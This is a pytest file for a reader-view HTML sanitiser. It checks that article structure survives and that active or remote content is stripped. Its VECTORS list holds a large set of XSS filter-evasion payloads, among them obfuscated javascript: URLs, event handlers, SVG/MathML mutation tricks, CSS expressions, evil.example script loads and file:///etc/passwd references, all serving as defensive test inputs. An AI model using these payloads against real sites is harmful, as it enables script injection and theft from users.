"""The reader HTML sanitiser: articles keep their shape, and nothing that runs, loads or tracks survives."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import lxml.html
import pytest

from indexer.ingest.sanitize import MAX_DATA_IMAGE_BYTES, data_uri_image, sanitize_reader_html

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
PNG_URI = "data:image/png;base64," + base64.b64encode(PNG).decode()
LOCAL = "files/3f/3f9a"

ALLOWED = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code",
    "figure", "img", "figcaption", "em", "i", "strong", "b", "u", "s", "sub", "sup", "a", "span",
    "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}


class Images:
    """An image_src that knows one picture on disk and any valid data:image URI."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def __call__(self, ref: str) -> str | None:
        self.asked.append(ref)
        if ref == "pics/bridge.png" or (ref.startswith("data:") and data_uri_image(ref)):
            return LOCAL
        return None


def check_inert(output: str) -> None:
    """Every element and attribute of the output, as two different parsers see it, is allowed and passive."""
    seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            seen.append((tag, attrs))

        def handle_comment(self, data: str) -> None:
            raise AssertionError(f"comment survived: {data!r}")

    Collect(convert_charrefs=True).feed(output)
    tree = lxml.html.fragment_fromstring(output, create_parent="div")
    for element in tree.iter():
        if element is tree:
            continue
        assert isinstance(element.tag, str), f"non-element node survived: {element!r}"
        seen.append((element.tag, list(element.attrib.items())))
    for tag, attrs in seen:
        assert tag in ALLOWED, f"<{tag}> survived in {output!r}"
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), f"{tag}[{name}] survived in {output!r}"
            value = value or ""
            if name == "href":
                assert re.match(r"(https?://[^\s/]|mailto:)", value), f"href {value!r} survived"
            if name == "src":
                assert value == LOCAL, f"img src {value!r} survived"
            if name == "rel":
                assert value == "noopener noreferrer"
    lowered = output.lower()
    for marker in ("<script", "<svg", "<math", "<iframe", "<style", "<base", "<meta", "<object", "<embed", "<form"):
        assert marker not in lowered, f"{marker} in {output!r}"


VECTORS = [
    # scripts and their disguises
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<img """><script>alert(1)</script>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    # event attributes in every casing and placement
    "<img src=pics/bridge.png onerror=alert(1)>",
    '<IMG SRC="pics/bridge.png" OnErRoR="alert(1)">',
    "<img src=pics/bridge.png/onload=alert(1)>",
    '<a href="https://ok.example/"onclick=alert(1)>x</a>',
    "<a href=https://ok.example/ title='x' onmouseover=alert(1)//>x</a>",
    "<p ONCLICK=alert(1) onPointerEnter=alert(1)>x</p>",
    "<body onload=alert(1)>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<custom-tag tabindex=1 onfocus=alert(1) autofocus>x</custom-tag>",
    "<marquee onstart=alert(1)>x</marquee>",
    # script URLs with casing, entities, whitespace and control characters
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#10;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
    "<img src=javascript:alert(1)>",
    '<img src="vbscript:msgbox(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>',
    "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
    '<svg><foreignObject><img src="https://evil.example/x.png"></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # CSS
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<span style="behavior: url(x.htc)">x</span>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p { background: url(https://evil.example/track.gif) }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<table background="javascript:alert(1)"><tr><td background="https://evil.example/bg.gif">x</td></tr></table>',
    # navigation and embedding
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<video poster="https://evil.example/p.jpg"><source src="https://evil.example/v.mp4"></video>',
    '<audio src="x" onerror="alert(1)"></audio>',
    '<form action="javascript:alert(1)"><input type=submit><button formaction=javascript:alert(1)>go</button></form>',
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)></select><textarea onfocus=alert(1)></textarea>",
    '<isindex action="javascript:alert(1)" type=image>',
    # remote images: never fetched
    '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
    '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/b.png">',
    '<img src="pics/bridge.png" srcset="https://evil.example/a.png 2x">',
    '<picture><source srcset="https://evil.example/a.webp"><img src="//evil.example/b.png"></picture>',
    # broken and unterminated
    '<img src="pics/bridge.png',
    "<a href='https://ok.example/",
    "<p><b><i>unclosed",
    "</p></div></table>stray closers",
    "<img src=pics/bridge.png alt=\"x\" title='y' width=10 height=20%>",
    # more from the filter-evasion cheat sheets: entity and whitespace spellings of script URLs
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
    '<a href="   javascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jAvAsCrIpT&NewLine;:alert(1)">x</a>',
    "<img src=`javascript:alert(1)`>",
    '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="file:///etc/passwd">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" onerror=alert(1)>',
    # scripts and styles inside SVG and MathML, and SVG's own ways to load or run
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    "<math><style>*{background:url(https://evil.example/m.png)}</style></math>",
    '<svg><image href="https://evil.example/i.png"/></svg>',
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
    # CSS: escapes, expression(), list images, styles on allowed tags
    '<div style="background:url(&#1;javascript:alert(1))">x</div>',
    '<div style="background-image:\\0075\\0072\\006C\\0028\\0027https://evil.example/e.png\\0027\\0029">x</div>',
    '<XSS STYLE="xss:expression(alert(1))">x</XSS>',
    '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</li></ul>',
    '<img src="pics/bridge.png" style="background:url(https://evil.example/x.png)">',
    '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    # navigation, embedding and loading attributes
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Set-Cookie" content="USERID=<script>alert(1)</script>">',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<link rel="import" href="https://evil.example/x.html">',
    '<base href="javascript:alert(1)//">',
    '<input type="image" src="https://evil.example/x.png">',
    '<body background="https://evil.example/bg.png">x</body>',
    '<bgsound src="https://evil.example/x.mid"><layer src="https://evil.example/x.html"></layer>',
    '<img dynsrc="https://evil.example/x.avi" lowsrc="https://evil.example/x.png">',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
    '<a href="https://ok.example/" ping="https://track.example/ping">x</a>',
    '<img src="pics/bridge.png" loading="lazy" referrerpolicy="unsafe-url" crossorigin>',
    # odd tag spellings and mutation XSS (markup that changes meaning when parsed twice)
    "<script/xss src=https://evil.example/x.js></script>",
    '<script\x20type="text/javascript">alert(1);</script>',
    "<img src=pics/bridge.png onerror\x0b=alert(1)>",
    "<</p>iframe src=javascript:alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div><p>nested <div><table><p>broken</table></p></div>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_filter_evasion_vectors_leave_nothing_active_or_remote(vector: str) -> None:
    output = sanitize_reader_html(f"<p>before</p>{vector}<p>after</p>", Images())
    check_inert(output)
    assert output.startswith("<p>before</p>")  # an unterminated vector may swallow what follows, as in browsers


def test_all_vectors_at_once_leave_nothing_active_or_remote() -> None:
    check_inert(sanitize_reader_html("".join(VECTORS), Images()))


def test_article_structure_survives() -> None:
    body = (
        "<h2>Flood</h2><p>The <em>river</em> rose <strong>two</strong> metres.</p>"
        "<ul><li>Bridge closed</li><li>Schools shut</li></ul>"
        "<blockquote><p>We have never seen it this high.</p></blockquote>"
        "<pre><code>level = 4.2</code></pre>"
        "<table><caption>Levels</caption><thead><tr><th colspan=2>Day</th></tr></thead>"
        "<tbody><tr><td rowspan=2>Mon</td><td>4.2 m</td></tr></tbody></table>"
        "<p>H<sub>2</sub>O and x<sup>2</sup>, <s>old</s> <u>new</u> <span>plain</span></p>"
    )
    output = sanitize_reader_html(body, Images())
    check_inert(output)
    tree = lxml.html.fragment_fromstring(output, create_parent="div")
    assert [h.text_content() for h in tree.iter("h2")] == ["Flood"]
    assert [li.text_content() for li in tree.iter("li")] == ["Bridge closed", "Schools shut"]
    assert tree.find(".//th").get("colspan") == "2"
    assert tree.find(".//td").get("rowspan") == "2"
    assert "We have never seen it this high." in tree.find(".//blockquote").text_content()
    assert tree.find(".//caption").text_content() == "Levels"


def test_links_keep_web_and_mail_targets_and_open_nothing_by_themselves() -> None:
    body = (
        '<p><a href="https://news.example.com/a?x=1&amp;y=2" title="More">more</a> '
        '<a href="mailto:desk@news.example.com">mail</a> <a href="/relative/page">relative</a> '
        '<a href="#top">anchor</a></p>'
    )
    tree = lxml.html.fragment_fromstring(sanitize_reader_html(body, Images()), create_parent="div")
    links = {a.text: (a.get("href"), a.get("rel"), a.get("title")) for a in tree.iter("a")}
    assert links["more"] == ("https://news.example.com/a?x=1&y=2", "noopener noreferrer", "More")
    assert links["mail"] == ("mailto:desk@news.example.com", "noopener noreferrer", None)
    assert links["relative"][0] is None
    assert links["anchor"][0] is None


def test_every_image_goes_through_image_src_and_only_local_ones_stay() -> None:
    images = Images()
    body = (
        '<figure><img src="pics/bridge.png?v=1&amp;w=2" alt="a"><figcaption>one</figcaption></figure>'
        '<img alt="The old bridge > the new one" width="640" src="pics/bridge.png" height="480" srcset="x.png 2x">'
        f'<img src="{PNG_URI}" alt="inline"><img src="https://tracker.example/p.gif"><img src="x_files/gone.png">'
    )
    output = sanitize_reader_html(body, images)
    check_inert(output)
    assert images.asked == [
        "pics/bridge.png?v=1&w=2",
        "pics/bridge.png",
        PNG_URI,
        "https://tracker.example/p.gif",
        "x_files/gone.png",
    ]
    tree = lxml.html.fragment_fromstring(output, create_parent="div")
    kept = [(img.get("src"), img.get("alt"), img.get("width")) for img in tree.iter("img")]
    assert kept == [(LOCAL, "The old bridge > the new one", "640"), (LOCAL, "inline", None)]
    assert tree.find(".//figcaption").text == "one"


@pytest.mark.parametrize(
    "answer",
    ["https://cdn.example.com/x.png", "//cdn.example.com/x.png", "javascript:alert(1)", "data:image/png;base64,AA", ""],
)
def test_image_src_answers_that_are_not_local_drop_the_image(answer: str) -> None:
    output = sanitize_reader_html('<p>x<img alt="1 > 0" src="a.png"></p>', lambda ref: answer)
    assert output == "<p>x</p>"


def test_local_file_url_answer_is_kept() -> None:
    output = sanitize_reader_html('<img src="a.png">', lambda ref: "file:///home/u/Library/files/ab/abcd")
    assert 'src="file:///home/u/Library/files/ab/abcd"' in output


def test_a_failing_image_src_is_not_swallowed() -> None:
    def broken(ref: str) -> str | None:
        raise KeyError(ref)

    with pytest.raises(KeyError):
        sanitize_reader_html('<img src="a.png">', broken)


def test_text_that_looks_like_code_stays_text() -> None:
    output = sanitize_reader_html("<p>Use &lt;script&gt; and javascript:void(0) carefully.</p>", Images())
    check_inert(output)
    assert lxml.html.fragment_fromstring(output).text_content() == "Use <script> and javascript:void(0) carefully."


# data: URIs


def test_data_uri_images_decode_when_they_are_what_they_say() -> None:
    assert data_uri_image(PNG_URI) == (PNG, "image/png")
    gif_uri = "data:image/gif;base64," + base64.b64encode(GIF).decode()
    assert data_uri_image(gif_uri) == (GIF, "image/gif")
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"
    assert data_uri_image("DATA:IMAGE/JPG;BASE64," + base64.b64encode(jpeg).decode()) == (jpeg, "image/jpeg")
    webp = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00"
    assert data_uri_image("data:image/webp;base64," + base64.b64encode(webp).decode()) == (webp, "image/webp")
    wrapped = "data:image/png;charset=utf-8;base64," + "\n ".join(re.findall(".{1,20}", PNG_URI.split(",")[1]))
    assert data_uri_image(wrapped) == (PNG, "image/png")


@pytest.mark.parametrize(
    "ref",
    [
        "data:image/svg+xml;base64," + base64.b64encode(b"<svg onload='alert(1)'/>").decode(),
        "data:image/svg+xml,<svg onload='alert(1)'/>",
        "data:image/png;base64," + base64.b64encode(GIF).decode(),  # says PNG, is a GIF
        "data:image/png;base64,!!!not-base64!!!",
        "data:image/png," + PNG.hex(),
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png;base64,",
        "https://example.com/x.png",
        "pics/bridge.png",
    ],
)
def test_other_data_uris_are_refused(ref: str) -> None:
    assert data_uri_image(ref) is None


def test_oversized_data_uri_is_refused() -> None:
    big = PNG + bytes(MAX_DATA_IMAGE_BYTES)
    assert data_uri_image("data:image/png;base64," + base64.b64encode(big).decode()) is None
